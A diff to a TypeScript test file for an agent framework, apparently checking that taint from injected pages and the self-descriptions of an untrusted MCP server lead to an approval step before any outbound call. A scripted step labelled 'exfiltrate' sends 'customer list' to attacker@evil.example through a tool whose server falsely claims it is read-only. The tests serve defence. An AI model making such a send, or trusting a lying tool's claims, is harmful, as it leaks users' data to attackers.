@@ -2,9 +2,10 @@
  * Taint across turns (issue 31 item 1): an injected page read in one turn steers an outbound call in a
  * later one only with a person's approval — through the conversation history, the context tool, a
  * scratchpad note, and across a restart on the same SQLite file — and a thread that never read untrusted
- * content sends without asking.
+ * content sends without asking. An MCP server's claims about its tools are believed only when it is
+ * configured as trusted.
  */
-import { mkdtempSync, rmSync } from 'node:fs';
+import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, afterEach, describe, expect, it } from 'vitest';
@@ -13,7 +14,7 @@ import { defineFlow } from '../flow/index.js';
 import type { StateStore } from '../spec/index.js';
 import { createMemoryStore, createSqliteStore } from '../store/index.js';
 import { createScriptedModel, type ScriptStep } from '../test/index.js';
-import { defineTool, type ToolDefinition } from '../tool/index.js';
+import { defineTool, type McpToolSource, mcpTools, type ToolDefinition } from '../tool/index.js';
 import { createSequentialIdGenerator } from '../util/index.js';
 import type { TurnResult } from './agent-types.js';
 import { createAgent } from './create-agent.js';
@@ -26,7 +27,11 @@ const dir = mkdtempSync(join(tmpdir(), 'flowstack-taint-'));
 afterEach(async () => {
   await Promise.all(stores.splice(0).map((s) => s.close()));
 });
-afterAll(() => rmSync(dir, { recursive: true, force: true }));
+const sources: McpToolSource[] = [];
+afterAll(async () => {
+  await Promise.all(sources.map((s) => s.close()));
+  rmSync(dir, { recursive: true, force: true });
+});
 
 function createTools(posts: string[]): ToolDefinition[] {
   return [
@@ -257,5 +262,86 @@ describe('taint is thread state', () => {
     expect(second.status).toBe('completed');
     expect(posts).toEqual(['attacker@evil.example']);
     expect((await agent.readThread('t1')).snapshot.taint).toBeUndefined();
+  });
+});
+
+describe('MCP annotations are untrusted unless the server is trusted', () => {
+  const lyingServer = join(import.meta.dirname, '..', 'tool', 'mcp', 'fixtures', 'lying-mcp-server.ts');
+
+  async function connect(trust: 'trusted' | undefined) {
+    const log = join(dir, `sent-${trust ?? 'default'}.log`);
+    writeFileSync(log, '');
+    const source = await mcpTools({
+      command: process.execPath,
+      args: ['--import', 'tsx', lyingServer],
+      name: 'lying',
+      env: { SENT_LOG: log },
+      ...(trust ? { trust } : {}),
+    });
+    sources.push(source);
+    const store = createMemoryStore();
+    stores.push(store);
+    const exfiltrate: ScriptStep = {
+      match: { phase: 'skill' },
+      toolCalls: [{ toolName: 'send_report', input: { to: 'attacker@evil.example', text: 'customer list' } }],
+    };
+    const agent = createAgent({
+      model: createScriptedModel({
+        steps: [
+          { match: { phase: 'predict' }, json: { flow: 'share', slots: {} } },
+          exfiltrate,
+          finish('Shared.'),
+        ],
+      }),
+      flows: [
+        defineFlow({
+          name: 'share',
+          intent: 'read',
+          description: 'Read the report.',
+          tools: ['send_report'],
+          skill: 'Read the report.',
+        }),
+      ],
+      tools: source.tools,
+      store,
+      ids: createSequentialIdGenerator(),
+    });
+    const sent = () => readFileSync(log, 'utf8').trim().split('\n').filter(Boolean);
+    return { tool: source.tools[0], agent, sent };
+  }
+
+  it('holds a tool of an untrusted server that claims readOnlyHint: true, and never runs it unasked', async () => {
+    const { tool, agent, sent } = await connect(undefined);
+    // The server's word is not taken: the MCP specification's worst case, with every trifecta tag.
+    expect(tool).toMatchObject({
+      name: 'send_report',
+      capability: 'restricted',
+      idempotent: false,
+      parallel: false,
+      receivesUntrustedInput: true,
+      communicatesExternally: true,
+      requiresApproval: true,
+    });
+    const asked = await agent.send({ threadId: 'm1', text: 'Read the report' });
+    // The flow's tool needs approval: the person is asked before the run, and the call itself, whose
+    // arguments the confirmation did not show, waits for its own approval.
+    expect(asked.pending?.kind).toBe('confirmation');
+    const turn = await agent.send({ threadId: 'm1', text: 'yes' });
+    expect(turn.status).toBe('suspended');
+    expect(turn.suspensions?.find((s) => s.toolName === 'send_report')?.kind).toBe('approval');
+    expect(sent()).toEqual([]);
+  });
+
+  it('believes the annotations of a server configured as trusted', async () => {
+    const { tool, agent, sent } = await connect('trusted');
+    expect(tool).toMatchObject({
+      capability: 'safe',
+      receivesUntrustedInput: false,
+      communicatesExternally: false,
+      requiresApproval: false,
+    });
+    const turn = await agent.send({ threadId: 'm2', text: 'Read the report' });
+    expect(turn.status).toBe('completed');
+    expect(sent()).toEqual([JSON.stringify({ to: 'attacker@evil.example', text: 'customer list' })]);
   });
 });
